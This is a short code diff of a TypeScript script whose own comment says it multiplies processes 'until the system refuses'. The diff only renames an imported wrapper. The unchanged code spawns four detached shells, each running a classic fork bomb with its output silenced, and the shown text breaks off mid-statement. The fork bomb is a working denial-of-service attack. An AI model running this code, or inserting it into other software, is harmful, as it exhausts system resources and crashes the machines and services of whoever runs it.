@@ -1,8 +1,8 @@
 /** Multiplies its processes until the system refuses. */
 import { spawn } from "node:child_process";
-import { house } from "./house.ts";
+import { answerWith } from "./answer-with.ts";
 
-house(() => {
+answerWith(() => {
   console.log("attack over");
   for (let count = 0; count < 4; count++)
     spawn("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb"], { stdio: "ignore", detached: true }).on(
